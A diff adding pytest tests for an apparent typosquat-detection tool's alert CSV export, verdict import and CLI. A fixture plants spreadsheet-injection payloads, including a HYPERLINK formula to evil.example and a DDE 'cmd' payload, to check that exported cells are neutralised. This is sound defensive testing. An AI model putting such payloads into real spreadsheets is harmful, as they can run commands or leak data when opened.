@@ -1,0 +1,231 @@
+"""The analysts' loop: alert CSV export (stable columns, neutralised cells, LibreOffice-clean), import of
+their verdicts (unknown/edited ids and bad verdicts refused and reported), `alerts list`, and `train`."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import shutil
+import subprocess
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from confuguard import training
+from confuguard.alerts import export, import_verdicts, parse_since
+from confuguard.classifier import Judge
+from confuguard.cli import main
+from confuguard.engine import Engine
+from confuguard.formats import alerts_csv
+from confuguard.store import Store
+from confuguard.sweep import Sweep, alert_row
+from confuguard.types import Ecosystem
+
+NAMES = {
+    Ecosystem.PYPI: "reqeusts\nnumpyy\nrequests\nclean-internal-thing-zq\n",
+    Ecosystem.NPM: "@typescript_eslinter/eslint\nlodahs\n",
+}
+FORMULA = ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.fixture(scope="module")
+def engine() -> Engine:
+    return Engine(encoder=None, judge=Judge.default())
+
+
+@pytest.fixture
+def db(engine: Engine, tmp_path: Path) -> Path:
+    path = tmp_path / "alerts.db"
+    with Store.open(path) as store:
+        engine.judge.store = store
+        for eco, text in NAMES.items():
+            f = tmp_path / f"{eco.value}.txt"
+            f.write_text(text)
+            Sweep(store, engine, offline=True).file(f, eco)
+        # an attacker-shaped row (no registry accepts such a name; the CSV must still be safe)
+        from confuguard.names import parse
+
+        cand = engine.check_name("reqeusts", Ecosystem.PYPI).candidates[0]
+        evil = alert_row(parse("reqeusts", Ecosystem.PYPI), cand, "0")
+        evil.update(suspect_key="evil", suspect='=HYPERLINK("http://evil.example/?x")',
+                    reasons=json.dumps(["+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx\x1b[31m\u202e"]))
+        store.commit_sweep(store.start_run("test"), "2026-11-01T00:00:00Z", [], [evil])
+    return path
+
+
+def rows_of(path: Path) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
+
+
+def test_export_columns_encoding_and_neutralisation(db: Path, tmp_path: Path) -> None:
+    out = tmp_path / "a.csv"
+    with Store.open(db) as st:
+        assert export(st, out) == 5
+    raw = out.read_bytes()
+    assert not raw.startswith(b"\xef\xbb\xbf")
+    raw.decode("utf-8")
+    header = raw.split(b"\n", 1)[0].decode()
+    assert header == ",".join(alerts_csv.COLUMNS)
+    rows = rows_of(out)
+    pairs = {(r["registry"], alerts_csv.unneutralise(r["suspect"]), r["target"]) for r in rows}
+    assert ("pypi", "reqeusts", "requests") in pairs and ("npm", "lodahs", "lodash") in pairs
+    assert ("npm", "@typescript_eslinter/eslint", "@typescript-eslint/eslint-plugin") in {
+        (a, b, alerts_csv.unneutralise(c)) for a, b, c in pairs}
+    for r in rows:
+        for col, value in r.items():
+            assert not value.startswith(FORMULA), (col, value)
+            assert not any(ord(ch) < 32 or 0x7F <= ord(ch) <= 0x9F or ch == "\u202e" for ch in value), (col, value)
+        assert r["analyst_verdict"] == "" and r["analyst_note"] == "" and r["status"] == "open"
+    req = next(r for r in rows if r["suspect"] == "reqeusts")
+    assert req["suspect_purl"] == "pkg:pypi/reqeusts" and req["suspect_url"] == "https://pypi.org/project/reqeusts/"
+    assert req["target_url"] == "https://pypi.org/project/requests/" and req["categories"] == "typo"
+    assert float(req["threat_probability"]) >= 0.55 and req["verdict"] == "suspicious" and req["model_version"]
+    scoped = next(r for r in rows if "typescript" in r["suspect"])
+    assert scoped["suspect"] == "'@typescript_eslinter/eslint"
+    assert scoped["suspect_url"].startswith("https://www.npmjs.com/package/@typescript_eslinter/eslint")
+    evil = next(r for r in rows if "HYPERLINK" in r["suspect"])
+    assert evil["suspect"].startswith("'=") and "\\x1b" in evil["reasons"] and "\\u202e" in evil["reasons"]
+    with Store.open(db) as st:
+        assert export(st, tmp_path / "none.csv", since=parse_since("2999-01-01")) == 0
+        assert export(st, tmp_path / "all.csv", status="all", since=parse_since("2026-11-01")) >= 1
+
+
+def _fill(path: Path, fills: dict[str, tuple[str, str]], *, edit_id: tuple[str, str] | None = None,
+          extra: list[dict[str, str]] | None = None) -> None:
+    """Fill analyst columns as an analyst would (keyed by unneutralised suspect)."""
+    rows = rows_of(path)
+    for r in rows:
+        key = alerts_csv.unneutralise(r["suspect"])
+        if key in fills:
+            r["analyst_verdict"], r["analyst_note"] = fills[key]
+        if edit_id and key == edit_id[0]:
+            r["alert_id"] = edit_id[1]
+    rows += extra or []
+    with path.open("w", encoding="utf-8", newline="") as fh:
+        w = csv.DictWriter(fh, fieldnames=alerts_csv.COLUMNS)
+        w.writeheader()
+        w.writerows(rows)
+
+
+def test_import_applies_valid_rows_and_reports_the_rest(db: Path, tmp_path: Path) -> None:
+    out = tmp_path / "a.csv"
+    with Store.open(db) as st:
+        export(st, out)
+        ids = {a["suspect"]: a["id"] for a in st.alert_rows()}
+    unknown = {c: "" for c in alerts_csv.COLUMNS} | {"alert_id": "9999", "registry": "pypi", "suspect": "x",
+                                                       "target": "y", "analyst_verdict": "benign"}
+    _fill(out, {"reqeusts": ("malicious", "=typosquat, reported"), "lodahs": ("Benign", "team fork"),
+                "@typescript_eslinter/eslint": ("unsure", ""), "numpyy": ("maybe", "")},
+          extra=[unknown])
+    rows = rows_of(out)  # an analyst pastes numpyy's verdict onto the wrong id: the suspect no longer matches
+    moved = next(r for r in rows if r["suspect"] == "numpyy")
+    moved["alert_id"], moved["analyst_verdict"] = str(ids["lodahs"]), "malicious"
+    with out.open("w", encoding="utf-8", newline="") as fh:
+        w = csv.DictWriter(fh, fieldnames=alerts_csv.COLUMNS)
+        w.writeheader()
+        w.writerows(rows)
+    with Store.open(db) as st:
+        report = import_verdicts(st, out, analyst="ana")
+        assert report.applied == 3 and report.verdicts == {"malicious": 1, "benign": 1, "unsure": 1}
+        assert len(report.problems) == 2, report.problems
+        assert any("unknown alert id 9999" in p for p in report.problems)
+        assert any("alert {} is lodahs".format(ids["lodahs"]) in p and "edited id" in p for p in report.problems)
+        got = {a["suspect"]: a for a in st.alert_rows()}
+        assert got["reqeusts"]["analyst_verdict"] == "malicious" and got["reqeusts"]["analyst"] == "ana"
+        assert got["reqeusts"]["analyst_note"] == "=typosquat, reported"  # stored as typed, neutralised on export
+        assert got["reqeusts"]["status"] == "triaged" and got["lodahs"]["status"] == "triaged"
+        assert got["@typescript_eslinter/eslint"]["status"] == "open"  # unsure keeps it open
+        assert got["reqeusts"]["verdict_recorded_at"].endswith("Z")
+        again = import_verdicts(st, out, analyst="bob")
+        assert again.applied == 0 and again.unchanged == 3
+        n = st._conn.execute("SELECT COUNT(*) FROM alert_verdicts").fetchone()[0]
+        assert n == 3
+        rest = tmp_path / "open.csv"
+        assert export(st, rest) == 3  # reqeusts and lodahs are triaged
+        assert "'=typosquat" not in rest.read_text()  # analyst columns are empty in an export
+
+
+def test_invalid_verdict_is_reported_not_applied(db: Path, tmp_path: Path) -> None:
+    out = tmp_path / "a.csv"
+    with Store.open(db) as st:
+        export(st, out)
+        _fill(out, {"numpyy": ("maybe", "")})
+        report = import_verdicts(st, out)
+        assert report.applied == 0 and "'maybe' is not one of malicious, benign, unsure" in report.problems[0]
+        assert all(a["analyst_verdict"] is None for a in st.alert_rows())
+
+
+def test_train_reads_the_analyst_csv(db: Path, tmp_path: Path) -> None:
+    out = tmp_path / "a.csv"
+    with Store.open(db) as st:
+        export(st, out)
+    _fill(out, {"reqeusts": ("malicious", ""), "lodahs": ("benign", ""),
+                "@typescript_eslinter/eslint": ("malicious", ""), "numpyy": ("unsure", "")})
+    report = training.read_labelled(out)
+    assert report.kind == "alerts"
+    got = {(str(p.suspect), str(p.target), p.label) for p in report.pairs}
+    assert got == {("reqeusts", "requests", 1), ("lodahs", "lodash", 0),
+                   ("@typescript_eslinter/eslint", "@typescript-eslint/eslint-plugin", 1)}
+
+
+def test_cli_export_import_list(db: Path, tmp_path: Path, capsys, monkeypatch) -> None:
+    out = tmp_path / "cli.csv"
+    assert main(["alerts", "export", "--db", str(db), "--out", str(out), "--since", "2020-01-01"]) == 0
+    assert "5 open alerts written" in capsys.readouterr().err
+    assert main(["alerts", "list", "--db", str(db)]) == 0
+    table = capsys.readouterr().out
+    assert "5 open alerts" in table and "reqeusts" in table and "\x1b[31m" not in table
+    _fill(out, {"reqeusts": ("malicious", "seen on a blog")})
+    assert main(["alerts", "import", str(out), "--db", str(db), "--analyst", "ana", "--dry-run"]) == 0
+    assert "would record 1 verdict" in capsys.readouterr().out
+    assert main(["alerts", "import", str(out), "--db", str(db), "--analyst", "ana", "-f", "json"]) == 0
+    assert json.loads(capsys.readouterr().out)["applied"] == 1
+    assert main(["alerts", "list", "--db", str(db), "--status", "triaged", "-f", "json"]) == 0
+    listed = json.loads(capsys.readouterr().out)
+    assert [(r["suspect"], r["recorded_verdict"]) for r in listed] == [("reqeusts", "malicious")]
+    _fill(out, {"numpyy": ("nope", "")})
+    assert main(["alerts", "import", str(out), "--db", str(db)]) == 2
+    assert "'nope' is not one of" in capsys.readouterr().err
+    assert main(["alerts", "export", "--db", str(tmp_path / "missing.db"), "--out", str(out)]) == 2
+
+
+def _soffice() -> str | None:
+    return shutil.which("soffice") or shutil.which("libreoffice")
+
+
+@pytest.mark.slow
+def test_csv_round_trips_through_libreoffice(db: Path, tmp_path: Path) -> None:
+    soffice = _soffice()
+    if soffice is None:
+        pytest.skip("LibreOffice (soffice) is not installed: apt-get install libreoffice-calc-nogui to run this test")
+    out = tmp_path / "alerts.csv"
+    with Store.open(db) as st:
+        export(st, out)
+    _fill(out, {"reqeusts": ("malicious", "checked, 'quoted' note"), "lodahs": ("benign", "")})
+    profile = f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}"
+
+    def convert(src: Path, fmt: str, dest: Path) -> Path:
+        dest.mkdir()
+        proc = subprocess.run([soffice, profile, "--headless", "--convert-to", fmt, "--outdir", str(dest), str(src)],
+                              capture_output=True, text=True, timeout=180)
+        produced = dest / (src.stem + "." + fmt.split(":")[0])
+        assert proc.returncode == 0 and produced.exists(), proc.stdout + proc.stderr
+        return produced
+
+    xlsx = convert(out, "xlsx", tmp_path / "xlsx")
+    with zipfile.ZipFile(xlsx) as z:
+        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
+        body = "".join(z.read(n).decode("utf-8") for n in sheets)
+    assert "<f>" not in body and "<f " not in body  # no cell became a formula
+    back = convert(xlsx, "csv:Text - txt - csv (StarCalc):44,34,76,1", tmp_path / "csv")
+    rows = rows_of(back)
+    assert [k for k in rows[0]] == list(alerts_csv.COLUMNS)
+    original = rows_of(out)
+    assert [r["suspect"] for r in rows] == [r["suspect"] for r in original]  # the quotes survive, nothing evaluated
+    with Store.open(db) as st:
+        report = import_verdicts(st, back, analyst="ana")
+        assert report.problems == [] and report.applied == 2
+        got = {a["suspect"]: a for a in st.alert_rows()}
+        assert got["reqeusts"]["analyst_note"] == "checked, 'quoted' note"
